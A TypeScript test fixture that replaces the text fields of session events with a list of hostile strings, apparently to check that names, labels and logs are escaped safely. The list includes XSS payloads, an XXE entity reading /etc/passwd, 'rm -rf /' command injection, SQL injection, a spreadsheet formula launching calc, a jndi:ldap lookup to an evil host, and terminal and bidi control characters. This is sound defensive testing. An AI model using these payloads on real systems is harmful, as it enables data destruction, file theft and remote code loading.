import type { NewEvent } from '../../../src/session/events.ts';
import type { Json } from '../../../src/session/evidence.ts';

/** What somebody might put into a name, a label, a log line or a certificate. */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</pre></code><script>x</script>',
  '"><svg/onload=alert(1)>',
  '@channel @here @everyone',
  'ping @alice and team@example.com',
  '<!channel> <@U123456> <http://evil.example|click>',
  'https://evil.example/x?y=z http://a.b',
  'www.evil.example',
  '[click](javascript:alert(1)) ![x](http://evil/x.png)',
  '[a]: http://evil.example "t"',
  '# heading\n## another\n- item\n1. one\n> quote\n---\n===',
  '1. one',
  '- item',
  '+ item',
  '| a | b |\n|---|---|\n| c | d |',
  'a | b || c \\| d \\\\| e',
  '```\nbroken out\n```',
  '````` five',
  '`',
  '``',
  'a`b``c```d',
  '~~~\nx\n~~~',
  '**bold** __bold__ *it* _it_ ~~gone~~ ~sub~',
  '$x^2$ $$y$$',
  ':tada: :smile:',
  '#123 GH-12 PROJ-99 owner/repo#1 4e1243bd22c66e76c2ba9eddc1f91394e57f9f83',
  '&lt;b&gt; &#60; &amp; & &copy;',
  '<!-- comment -->',
  '</details></summary><details>',
  '{noformat} {code} {panel} {{x}} [~admin] !image.png! h1. x',
  '{ noformat}',
  '{NOFORMAT}',
  'bq. quote\nh1. heading\n* bullet\n|| head ||',
  ']]> <![CDATA[ x ]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b31m',
  'a\u0000b\u0008c\rd\u007fe\u0085',
  '\u202eevil\u202c \u2066x\u2069 \u200b\u200f\ufeff',
  '\ud800 lone \udc00',
  '\uffff\ufffe\ufdd0',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '/close\n/assign @me',
  '$(rm -rf /) `rm -rf /` ; rm -rf / && x || y',
  "'; DROP TABLE x; --",
  '%s%n%x $\u007bjndi:ldap://evil/x}',
  '\\',
  '\\\\`',
  'x\\',
  '\n',
  ' ',
  '',
  'é ü ß 漢字 🙂 👩‍👩‍👧 ‮',
  'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301b',
  '__proto__',
  'constructor',
  '-----BEGIN CERTIFICATE-----',
  '2026-11-23T02:41:17Z',
  'h1. ',
  '* ',
  '|',
  '||',
  '‹secret-0a1b2c3d›',
];

/** Strings that mean something to the fold or are made by us; everything else may hold anything. */
const FIXED = new Set([
  'type',
  'tier',
  'view',
  'kind',
  'source',
  'outcome',
  'why',
  'step',
  'observedAt',
  'startedAt',
  'created',
]);

/** The events with every text of others replaced by what `next` gives. */
export function poisoned(events: readonly NewEvent[], next: () => string): NewEvent[] {
  const walk = (value: Json, key: string): Json => {
    if (typeof value === 'string') return FIXED.has(key) ? value : next();
    if (Array.isArray(value)) return key === 'tiers' ? value : value.map((one) => walk(one, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, walk(one, name)]));
  };
  return events.map((event) => {
    const out = walk(event as unknown as Json, '') as unknown as NewEvent;
    if (event.type === 'target.checked') return { ...event, details: [next()], leftBehind: [next()] };
    if (event.type === 'redaction.applied') return { ...event, rule: next() };
    if (event.type === 'session.finished') return event;
    if (out.type === 'session.started' && event.type === 'session.started') out.session.playbook.sha256 = next();
    return out;
  });
}
